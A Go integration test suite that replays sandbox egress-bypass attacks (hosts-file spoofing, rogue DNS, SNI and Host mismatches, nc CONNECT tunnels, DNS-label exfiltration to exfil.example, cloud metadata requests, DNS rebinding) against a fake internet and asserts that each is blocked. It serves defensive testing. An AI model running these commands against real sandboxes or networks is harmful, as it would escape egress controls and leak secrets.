package integration

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"net/url"
	"os"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/airlockdev/airlock/internal/airtest"
	"github.com/airlockdev/airlock/internal/apiv1"
	"github.com/airlockdev/airlock/internal/egress/fakenet"
	"github.com/airlockdev/airlock/internal/model"
)

// egressRuntimes are the runtimes the replay suite runs on.
func egressRuntimes() []string { return []string{"runc", "runsc"} }

// replayPolicy is the policy of the replay suite's sandbox: nothing but a
// few names of the fake internet.
var replayPolicy = &apiv1.EgressPolicy{
	Default: "none",
	Allow: []string{
		"allowed.example:80", "allowed.example:443", // not port 22
		"shared-ok.example", // shares its address with shared-bad.example
		"rebind.example",    // later answers a private address
		"private.example",   // answers a private address
		"metadata.example",  // answers the metadata address
		"*.tunnel.example",  // a wildcard zone a guest may try to tunnel through
	},
}

// step is one command of an attack, run with sh -c in the sandbox.
type step struct {
	script string
	// mayExit0: the command itself may succeed (nslookup answered by
	// Airlock's own resolver); the attack failing is then shown by
	// forbidden output and the fake internet's records alone.
	mayExit0 bool
}

// attack is one known bypass class. It fails when every step fails (or is
// allowed to succeed), no step prints a forbidden pattern, and the fake
// internet saw none of evidence's findings.
type attack struct {
	name      string
	setup     func(t *testing.T, env *replayEnv) // before the steps
	steps     func(env *replayEnv) []step
	forbidden []*regexp.Regexp
	evidence  func(env *replayEnv) []string // what got through, described
}

// replayEnv is one runtime's fake internet, server and sandbox.
type replayEnv struct {
	n       *fakenet.Net
	s       *server
	sb      model.SandboxID
	gateway string // the sandbox's default gateway (its host end)
	apiPort string
	hostHit *atomic.Int64 // connections accepted by a listener in the host namespace
}

// requestsWhere describes the fake internet's requests matching keep.
func (e *replayEnv) requestsWhere(keep func(fakenet.Request) bool) []string {
	var out []string
	for _, r := range e.n.Requests() {
		if keep(r) {
			out = append(out, "request reached the fake internet: "+r.Banner())
		}
	}
	return out
}

func (e *replayEnv) requestsTo(addrs ...netip.Addr) []string {
	return e.requestsWhere(func(r fakenet.Request) bool {
		for _, a := range addrs {
			if r.Addr.Addr() == a {
				return true
			}
		}
		return false
	})
}

func (e *replayEnv) requestsForHost(host string) []string {
	return e.requestsWhere(func(r fakenet.Request) bool {
		h, _, err := net.SplitHostPort(r.Host)
		if err != nil {
			h = r.Host
		}
		return strings.EqualFold(h, host) || strings.EqualFold(r.SNI, host)
	})
}

func (e *replayEnv) queriesUnder(zone string) []string {
	var out []string
	for _, z := range []*fakenet.Zone{e.n.Zone(), e.n.RogueZone()} {
		for _, q := range z.QueriesUnder(zone) {
			out = append(out, fmt.Sprintf("DNS query reached %s: %s %s", q.Server, q.Type, q.Name))
		}
	}
	return out
}

// wget fetches a URL with busybox's wget, bounded by timeout (busybox
// wget's own -T crashes in some builds).
const wget = "timeout 10 wget -q -O-"

// replayAttacks are issue 8's known bypass classes (item 8).
func replayAttacks() []attack {
	ok200 := regexp.MustCompile(`HTTP/1\.[01] 2\d\d`)
	fakenetAt := func(a netip.Addr) *regexp.Regexp {
		host := a.String()
		if a.Is6() {
			host = "[" + host + "]"
		}
		return regexp.MustCompile(regexp.QuoteMeta("addr=" + host + ":"))
	}
	return []attack{
		{
			name: "hosts-file-spoof",
			steps: func(*replayEnv) []step {
				spoof := "echo '203.0.113.7 allowed.example' > /etc/hosts && "
				return []step{
					{script: spoof + wget + " http://allowed.example/"},
					{script: spoof + "/tmp/egressattack tls allowed.example:443 allowed.example allowed.example"},
				}
			},
			forbidden: []*regexp.Regexp{fakenetAt(blockedAddr)},
			evidence:  func(e *replayEnv) []string { return e.requestsTo(blockedAddr) },
		},
		{
			name: "custom-resolver-spoof",
			steps: func(*replayEnv) []step {
				return []step{
					{script: "nslookup allowed.example 198.51.100.53", mayExit0: true},
					{script: "/tmp/egressattack dns 198.51.100.53:53 allowed.example tcp", mayExit0: true},
					{script: "/tmp/egressattack dns 198.51.100.53:53 allowed.example udp", mayExit0: true},
				}
			},
			forbidden: []*regexp.Regexp{regexp.MustCompile(`203\.0\.113\.7`)},
			evidence: func(e *replayEnv) []string {
				var out []string
				for _, q := range e.n.RogueZone().Queries() {
					out = append(out, fmt.Sprintf("DNS query reached the rogue resolver: %s %s", q.Type, q.Name))
				}
				return append(out, e.requestsTo(blockedAddr)...)
			},
		},
		{
			name: "shared-address",
			steps: func(*replayEnv) []step {
				spoof := "nslookup shared-ok.example >/dev/null; echo '198.51.100.10 shared-bad.example' > /etc/hosts && "
				return []step{
					{script: wget + " http://shared-bad.example/"},
					{script: spoof + wget + " http://shared-bad.example/"},
					{script: spoof + "/tmp/egressattack tls shared-bad.example:443 shared-bad.example shared-bad.example"},
					{script: spoof + "/tmp/egressattack tls shared-bad.example:443 shared-ok.example shared-bad.example"},
					{script: "nslookup shared-ok.example >/dev/null; " + wget + " --header 'Host: shared-bad.example' http://shared-ok.example/"},
				}
			},
			forbidden: []*regexp.Regexp{regexp.MustCompile(`host=shared-bad\.example`)},
			evidence: func(e *replayEnv) []string {
				return append(e.requestsForHost("shared-bad.example"), e.queriesUnder("shared-bad.example")...)
			},
		},
		{
			name: "sni-allowed-host-blocked",
			steps: func(*replayEnv) []step {
				return []step{
					{script: "nslookup allowed.example >/dev/null; /tmp/egressattack tls 192.0.2.10:443 allowed.example blocked.example"},
					{script: "/tmp/egressattack tls allowed.example:443 allowed.example blocked.example"},
					{script: wget + " --header 'Host: blocked.example' http://allowed.example/"},
				}
			},
			forbidden: []*regexp.Regexp{regexp.MustCompile(`host=blocked\.example`)},
			evidence:  func(e *replayEnv) []string { return e.requestsForHost("blocked.example") },
		},
		{
			name: "connect-blocked-host-or-port",
			steps: func(*replayEnv) []step {
				connect := func(target string) string {
					return fmt.Sprintf(`printf 'CONNECT %[1]s HTTP/1.1\r\nHost: %[1]s\r\n\r\n' | nc -w 5 allowed.example 80`, target)
				}
				return []step{
					{script: connect("blocked.example:443"), mayExit0: true},
					{script: connect("203.0.113.7:443"), mayExit0: true},
					{script: connect("allowed.example:22"), mayExit0: true},
					{script: "/tmp/egressattack dial allowed.example:22"},
				}
			},
			forbidden: []*regexp.Regexp{ok200, regexp.MustCompile(`proto=tcp`)},
			evidence: func(e *replayEnv) []string {
				out := append(e.requestsTo(blockedAddr), e.requestsForHost("blocked.example")...)
				return append(out, e.requestsWhere(func(r fakenet.Request) bool { return r.Addr.Port() == fakenet.EchoPort })...)
			},
		},
		{
			name: "direct-ip",
			steps: func(*replayEnv) []step {
				return []step{
					{script: wget + " http://203.0.113.7/"},
					{script: wget + " http://203.0.113.10/"}, // an address no allowed name is bound to
					// (http://192.0.2.10/ is allowed: the IP-literal Host is judged as
					// the bare address, which the live binding of allowed.example covers)
					{script: "/tmp/egressattack dial 203.0.113.10:22"},
					{script: "/tmp/egressattack tls 203.0.113.7:443 203.0.113.7 203.0.113.7"},
					{script: "/tmp/egressattack tls 203.0.113.7:443 '' blocked.example"},
				}
			},
			forbidden: []*regexp.Regexp{regexp.MustCompile(`fakenet proto=`)},
			evidence: func(e *replayEnv) []string {
				return e.requestsTo(blockedAddr, echoAddr)
			},
		},
		{
			name: "dns-exfiltration",
			steps: func(*replayEnv) []step {
				long := "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwey3emvtgo2djnfva"
				return []step{
					{script: "nslookup c2VjcmV0LXRva2VuLTEyMzQ1Ng.exfil.example", mayExit0: true},
					{script: "nslookup -type=txt k3j5h2.exfil.example 198.51.100.53", mayExit0: true},
					{script: "/tmp/egressattack dns " + "198.51.100.53:53 tcp-x9f2.exfil.example tcp", mayExit0: true},
					{script: "nslookup " + long + "." + long[:40] + ".tunnel.example", mayExit0: true},
				}
			},
			evidence: func(e *replayEnv) []string {
				out := e.queriesUnder("exfil.example")
				for _, q := range e.n.Zone().QueriesUnder("tunnel.example") {
					if label, _, _ := strings.Cut(q.Name, "."); len(label) > 40 {
						out = append(out, "high-entropy label reached the fake DNS: "+q.Name)
					}
				}
				return out
			},
		},
		{
			name: "metadata-address",
			steps: func(*replayEnv) []step {
				return []step{
					{script: wget + " http://169.254.169.254/latest/meta-data/"},
					{script: wget + " http://metadata.example/latest/meta-data/"},
					{script: "/tmp/egressattack dial 169.254.169.254:22"},
				}
			},
			forbidden: []*regexp.Regexp{fakenetAt(metadata)},
			evidence:  func(e *replayEnv) []string { return e.requestsTo(metadata) },
		},
		{
			name: "ipv6-path",
			steps: func(*replayEnv) []step {
				return []step{
					{script: wget + " 'http://[2001:db8::10]/'"},
					{script: "/tmp/egressattack dial '[2001:db8::10]:22'"},
					{script: "/tmp/egressattack tls '[2001:db8::10]:443' allowed.example allowed.example"},
					{script: "/tmp/egressattack tls blocked.example:443 blocked.example blocked.example"},
				}
			},
			forbidden: []*regexp.Regexp{regexp.MustCompile(`fakenet proto=`)},
			evidence:  func(e *replayEnv) []string { return e.requestsTo(blocked6) },
		},
		{
			name: "dns-rebinding",
			setup: func(t *testing.T, e *replayEnv) {
				// First the name answers a public address and is reachable …
				res := execIn(ctxFor(t, time.Minute), t, e.s.client(), e.sb, "sh", "-c", wget+" http://rebind.example/")
				if res.exitCode != 0 || !strings.Contains(res.stdout, "addr="+rebindAddr.String()+":80 host=rebind.example") {
					t.Errorf("before rebinding, rebind.example was not reachable: %+v", res)
				}
				// … then it is rebound to a private address (TTL 1 s).
				e.n.Zone().Set("rebind.example", fakenet.Record{Addrs: []netip.Addr{privateAddr}, TTL: time.Second})
				time.Sleep(3 * time.Second)
			},
			steps: func(*replayEnv) []step {
				return []step{
					{script: wget + " http://rebind.example/"},
					{script: wget + " http://private.example/"},
					{script: "/tmp/egressattack dial private.example:22"},
					{script: "/tmp/egressattack tls rebind.example:443 rebind.example rebind.example"},
				}
			},
			forbidden: []*regexp.Regexp{fakenetAt(privateAddr)},
			evidence:  func(e *replayEnv) []string { return e.requestsTo(privateAddr) },
		},
		{
			name: "host-services",
			steps: func(e *replayEnv) []step {
				var steps []step
				for _, h := range []string{e.gateway, fakenet.HostAddr.Addr().String()} {
					steps = append(steps,
						step{script: fmt.Sprintf("%s http://%s:%s/healthz", wget, h, e.apiPort)},
						step{script: fmt.Sprintf("%s http://%s:%d/", wget, h, hostProbePort)},
						step{script: fmt.Sprintf("/tmp/egressattack dial %s:%d", h, hostProbePort)},
						step{script: fmt.Sprintf("/tmp/egressattack tls %s:%d allowed.example allowed.example", h, hostProbePort)},
					)
				}
				steps = append(steps,
					step{script: fmt.Sprintf("%s http://%s:15001/", wget, e.gateway)},            // the proxy's own port
					step{script: fmt.Sprintf("/tmp/egressattack dial %s:15053", e.gateway)},      // the resolver's TCP port
					step{script: fmt.Sprintf("%s http://127.0.0.1:%s/healthz", wget, e.apiPort)}, // the guest's own loopback
				)
				return steps
			},
			forbidden: []*regexp.Regexp{regexp.MustCompile(`"status"|(?m)^OK `)},
			evidence: func(e *replayEnv) []string {
				if n := e.hostHit.Load(); n > 0 {
					return []string{fmt.Sprintf("a listener in the host namespace accepted %d connections", n)}
				}
				return nil
			},
		},
	}
}

// hostProbePort is a port a test listener in the host namespace listens
// on (all addresses): no connection from a sandbox may reach it.
const hostProbePort = 18080

// TestEgressReplay replays issue 8's attack classes from inside a sandbox
// whose policy allows a few names of the fake internet: each must fail,
// and allowed control requests (HTTP and intercepted HTTPS) must succeed.
func TestEgressReplay(t *testing.T) {
	bins := build(t)
	attackBin := airtest.BuildBinary(t, "./integration/testdata/egressattack")
	for _, rt := range egressRuntimes() {
		t.Run(rt, func(t *testing.T) {
			env := newReplayEnv(t, bins, rt, attackBin, replayPolicy)
			ctx := ctxFor(t, 10*time.Minute)
			c := env.s.client()

			control := func(t *testing.T) {
				t.Helper()
				for _, tc := range []struct{ script, want string }{
					{wget + " http://allowed.example/", "fakenet proto=http addr=192.0.2.10:80 host=allowed.example"},
					{"/tmp/egressattack tls allowed.example:443 allowed.example allowed.example", "fakenet proto=https addr=192.0.2.10:443 host=allowed.example sni=allowed.example"},
				} {
					res := execIn(ctx, t, c, env.sb, "sh", "-c", tc.script)
					if res.exitCode != 0 || !strings.Contains(res.stdout, tc.want) {
						t.Errorf("control %q: exit %d, stdout %q, stderr %q; want %q", tc.script, res.exitCode, res.stdout, res.stderr, tc.want)
					}
				}
			}
			t.Run("control", control)
			for _, a := range replayAttacks() {
				t.Run(a.name, func(t *testing.T) { runAttack(ctx, t, env, a) })
			}
			// The allowed names still work after the attacks (nothing
			// above broke the sandbox's network).
			t.Run("control-after", control)
			// The decision log holds the denials and the allowances.
			t.Run("decision-log", func(t *testing.T) {
				var decisions struct {
					Decisions []struct {
						Allowed bool `json:"allowed"`
					} `json:"decisions"`
					Live bool `json:"live"`
				}
				if _, err := env.s.apiJSON(ctx, "GET", "/v1/sandboxes/"+env.sb.String()+"/egress/decisions", nil, &decisions); err != nil {
					t.Fatalf("decision log: %v", err)
				}
				if !decisions.Live {
					t.Fatal("the API does not see the running sandbox's egress state (live: false)")
				}
				var allowed, denied int
				for _, d := range decisions.Decisions {
					if d.Allowed {
						allowed++
					} else {
						denied++
					}
				}
				if allowed == 0 || denied == 0 {
					t.Errorf("decision log has %d allowed and %d denied decisions, want both", allowed, denied)
				}
			})
			// Everything the fake internet ever received came from the
			// host's side of the link (the proxy), never routed from a
			// sandbox address.
			for _, r := range env.n.Requests() {
				if a := r.From.Addr(); a != fakenet.HostAddr.Addr() && a != fakenet.HostAddr6.Addr() {
					t.Errorf("the fake internet got a request from %s, not from the host's proxy: %s", a, r.Banner())
				}
			}
		})
	}
}

// runAttack replays a in env's sandbox: every step must fail (or may
// succeed), print nothing forbidden, and leave no evidence in the fake
// internet.
func runAttack(ctx context.Context, t *testing.T, env *replayEnv, a attack) {
	t.Helper()
	c := env.s.client()
	env.n.ResetRequests()
	env.n.Zone().ResetQueries()
	env.n.RogueZone().ResetQueries()
	// Each attack starts from the template's /etc/hosts.
	if res := execIn(ctx, t, c, env.sb, "sh", "-c", "cp /tmp/hosts.orig /etc/hosts"); res.exitCode != 0 {
		t.Fatalf("restore /etc/hosts: %+v", res)
	}
	if a.setup != nil {
		a.setup(t, env)
		env.n.ResetRequests()
	}
	for _, st := range a.steps(env) {
		res := execIn(ctx, t, c, env.sb, "sh", "-c", st.script)
		out := res.stdout + res.stderr
		t.Logf("%q → exit %d: %s", st.script, res.exitCode, strings.TrimSpace(out))
		if res.exitCode == 0 && !st.mayExit0 {
			t.Errorf("attack step succeeded: %q\nstdout: %s\nstderr: %s", st.script, res.stdout, res.stderr)
		}
		for _, re := range a.forbidden {
			if re.MatchString(out) {
				t.Errorf("attack step %q printed %q:\n%s", st.script, re, out)
			}
		}
	}
	for _, e := range a.evidence(env) {
		t.Errorf("attack got through: %s", e)
	}
}

// newReplayEnv starts the fake internet, a server in its host namespace
// (--egress-default public, so that a sandbox's own "none" is what stops
// the attacks), a probe listener in the host namespace, and a sandbox with
// policy given at create (nil: the server's default) and the attack
// client in /tmp.
func newReplayEnv(t *testing.T, bins binaries, rt, attackBin string, policy *apiv1.EgressPolicy) *replayEnv {
	t.Helper()
	n := newFakenet(t)
	s := newEgressServer(t, bins, rt, n, "--egress-default", "public")
	env := &replayEnv{n: n, s: s, hostHit: &atomic.Int64{}}
	u, err := url.Parse(s.url)
	if err != nil {
		t.Fatal(err)
	}
	env.apiPort = u.Port()

	ln, err := n.ListenHost("tcp", fmt.Sprintf("[::]:%d", hostProbePort))
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			env.hostHit.Add(1)
			c.Close()
		}
	}()
	t.Cleanup(func() { ln.Close(); <-done })

	ctx := ctxFor(t, 3*time.Minute)
	c := s.client()
	sb := createSandbox(ctx, t, c, apiv1.CreateSandboxRequest{Egress: policy})
	env.sb = model.SandboxID(sb.ID)
	f, err := os.Open(attackBin)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := c.Upload(ctx, env.sb, "/tmp/egressattack", 0o755, f); err != nil {
		t.Fatalf("upload the attack client: %v", err)
	}
	if res := execIn(ctx, t, c, env.sb, "sh", "-c", "touch /etc/hosts && cp /etc/hosts /tmp/hosts.orig"); res.exitCode != 0 {
		t.Fatalf("save /etc/hosts: %+v", res)
	}
	res := execIn(ctx, t, c, env.sb, "sh", "-c", "ip -4 route show default | awk '{print $3; exit}'")
	env.gateway = strings.TrimSpace(res.stdout)
	if _, err := netip.ParseAddr(env.gateway); err != nil {
		t.Fatalf("the sandbox's default gateway: %q (%+v)", env.gateway, res)
	}
	return env
}

// TestEgressRunReachesAllowedName is issue 8's "done when" control:
// `airlock run -- sh -c 'wget -qO- http://NAME/'` reaches a name of the
// fake internet through the server's default policy (public).
func TestEgressRunReachesAllowedName(t *testing.T) {
	bins := build(t)
	for _, rt := range egressRuntimes() {
		t.Run(rt, func(t *testing.T) {
			n := newFakenet(t)
			s := newEgressServer(t, bins, rt, n, "--egress-default", "public")
			ctx := ctxFor(t, 3*time.Minute)
			out, errOut, code := s.cli(ctx, "run", "--", "sh", "-c", "wget -qO- http://allowed.example/")
			want := "fakenet proto=http addr=192.0.2.10:80 host=allowed.example"
			if code != 0 || !strings.Contains(out, want) {
				t.Fatalf("airlock run: exit %d, stdout %q, stderr %q; want %q", code, out, errOut, want)
			}
			if reqs := n.RequestsTo(allowedAddr); len(reqs) != 1 || reqs[0].From.Addr() != fakenet.HostAddr.Addr() {
				t.Errorf("requests the fake internet saw: %+v", reqs)
			}
		})
	}
}

// publicAttacks are what the "public" default must still stop: private and
// metadata answers, bare addresses, DNS-over-HTTPS resolvers by name, and
// bulk exfiltration through long labels.
func publicAttacks() []attack {
	return []attack{
		{
			name: "doh-resolver",
			steps: func(*replayEnv) []step {
				return []step{
					{script: "/tmp/egressattack tls dns.google:443 dns.google dns.google"},
					{script: wget + " http://cloudflare-dns.com/dns-query"},
					{script: "nslookup dns.google >/dev/null; /tmp/egressattack tls 192.0.2.11:443 dns.google dns.google"},
				}
			},
			forbidden: []*regexp.Regexp{regexp.MustCompile(`fakenet proto=`)},
			evidence: func(e *replayEnv) []string {
				out := append(e.requestsForHost("dns.google"), e.requestsForHost("cloudflare-dns.com")...)
				return append(out, e.queriesUnder("dns.google")...)
			},
		},
		{
			name: "private-and-metadata-answers",
			steps: func(*replayEnv) []step {
				return []step{
					{script: wget + " http://private.example/"},
					{script: wget + " http://metadata.example/latest/meta-data/"},
					{script: wget + " http://169.254.169.254/latest/meta-data/"},
				}
			},
			forbidden: []*regexp.Regexp{regexp.MustCompile(`fakenet proto=`)},
			evidence:  func(e *replayEnv) []string { return e.requestsTo(privateAddr, metadata) },
		},
		{
			name: "bare-address",
			steps: func(*replayEnv) []step {
				return []step{
					{script: wget + " http://203.0.113.10/"},
					{script: "/tmp/egressattack dial 203.0.113.10:22"},
				}
			},
			forbidden: []*regexp.Regexp{regexp.MustCompile(`fakenet proto=`)},
			evidence:  func(e *replayEnv) []string { return e.requestsTo(echoAddr) },
		},
		{
			name: "long-label-exfiltration",
			steps: func(*replayEnv) []step {
				long := "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwey3emvtgo2djnfva"
				return []step{
					{script: "nslookup " + long + ".exfil.example", mayExit0: true},
					{script: "/tmp/egressattack dns 198.51.100.53:53 " + long + ".exfil.example tcp", mayExit0: true},
				}
			},
			evidence: func(e *replayEnv) []string {
				var out []string
				for _, q := range append(e.n.Zone().QueriesUnder("exfil.example"), e.n.RogueZone().QueriesUnder("exfil.example")...) {
					if label, _, _ := strings.Cut(q.Name, "."); len(label) > 40 {
						out = append(out, "long label reached a fake DNS server: "+q.Name)
					}
				}
				return out
			},
		},
	}
}

// TestEgressPublicDefault: a sandbox on the server's "public" default
// reaches public names but none of what that default still refuses.
func TestEgressPublicDefault(t *testing.T) {
	bins := build(t)
	attackBin := airtest.BuildBinary(t, "./integration/testdata/egressattack")
	for _, rt := range egressRuntimes() {
		t.Run(rt, func(t *testing.T) {
			env := newReplayEnv(t, bins, rt, attackBin, nil)
			env.n.Zone().Set("dns.google", fakenet.Record{Addrs: []netip.Addr{rebindAddr}})
			env.n.Zone().Set("cloudflare-dns.com", fakenet.Record{Addrs: []netip.Addr{rebindAddr}})
			ctx := ctxFor(t, 5*time.Minute)
			res := execIn(ctx, t, env.s.client(), env.sb, "sh", "-c", wget+" http://allowed.example/")
			if want := "fakenet proto=http addr=192.0.2.10:80 host=allowed.example"; res.exitCode != 0 || !strings.Contains(res.stdout, want) {
				t.Errorf("control: %+v, want %q", res, want)
			}
			for _, a := range publicAttacks() {
				t.Run(a.name, func(t *testing.T) { runAttack(ctx, t, env, a) })
			}
		})
	}
}
